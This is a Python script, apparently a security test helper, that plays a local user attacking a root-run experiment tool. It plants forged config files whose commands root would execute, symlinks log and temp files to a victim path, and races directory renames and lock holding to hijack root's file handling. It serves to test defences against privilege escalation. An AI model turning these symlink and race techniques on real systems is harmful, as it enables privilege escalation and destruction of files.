"""What a local user does against an experiment of root: `python attacker.py ATTACK RUN MARKER VICTIM PID`.

Prints `ready` when root may start, and `done` when everything is planted. The planted commands write the user
that runs them into MARKER; the planted links lead to VICTIM, and the planted log names the process PID.
"""

from __future__ import annotations

import contextlib
import fcntl
import json
import os
import signal
import sys
import time
from pathlib import Path

FORGED = "forged"  # next to RUN: the directory that takes its place
MOVED = "moved"  # next to RUN: the directory of root after that


def plant(load: Path, run: Path, marker: Path, victim: Path, pid: int) -> None:
    """Make a directory `load` with own commands for the run directory `run`."""
    load.mkdir(parents=True)
    names = ("apply", "revert", "verify_applied", "verify_reverted")
    config = {
        "run": str(run),
        "commands": dict.fromkeys(names, f"id -u >> {marker}"),
        "collect": "/bin/true",
        "timeout": 5,
        "lease": 15,
        "deadline": 60,
        "server_pid": 1,
    }
    (load / "keeper.json").write_text(json.dumps(config), encoding="utf-8")
    switch = {"what": "apply", "event": "begin", "pid": pid}
    (load / "switches.jsonl").write_text(json.dumps(switch) + "\n", encoding="utf-8")
    for name in ("phases.jsonl", ".guards.json.new", ".guards.json.tmp"):
        (load / name).symlink_to(victim)


def wait_for(path: Path) -> None:
    """Wait without a pause until a file exists."""
    while not path.exists():
        pass


def main(attack: str, run: Path, marker: Path, victim: Path, pid: int) -> None:
    """Attack."""
    forged = run.with_name(FORGED)
    plant(forged / "load", run, marker, victim, pid)
    (forged / "run.json").write_text("{}", encoding="utf-8")
    for name in ("run.new", ".run.json.tmp", ".run.json.new"):
        (forged / name).symlink_to(victim)
    if attack == "own the run directory":
        run.mkdir()
        print("ready", flush=True)
        wait_for(run / "load" / "keeper.json")
        (run / "load").rename(run / MOVED)
        (forged / "load").rename(run / "load")
    elif attack == "own its parent":
        print("ready", flush=True)
        wait_for(run / "load" / "phases.jsonl")
        run.rename(run.with_name(MOVED))
        forged.rename(run)
    elif attack == "hold the lock":
        print("ready", flush=True)
        wait_for(run / "load" / "lock")
        with contextlib.suppress(PermissionError):
            lock = os.open(run / "load" / "lock", os.O_RDONLY)
            print("done", flush=True)
            fcntl.flock(lock, fcntl.LOCK_EX)  # as soon as root's process has ended
            signal.pause()
    elif attack == "make a run directory":
        (forged / "load" / "phases.jsonl").unlink()
        forged.rename(run)
        print("ready", flush=True)
    elif attack == "make and remove a run directory":
        (forged / "load" / "phases.jsonl").unlink()
        print("ready", flush=True)
        while True:
            time.sleep(0.0005)  # absent for as long as root checks it
            forged.rename(run)
            time.sleep(0.0005)
            run.rename(forged)
    print("done", flush=True)


if __name__ == "__main__":
    os.umask(0)  # root can write everywhere in any case
    run, marker, victim = map(Path, sys.argv[2:5])
    main(sys.argv[1], run, marker, victim, int(sys.argv[5]))
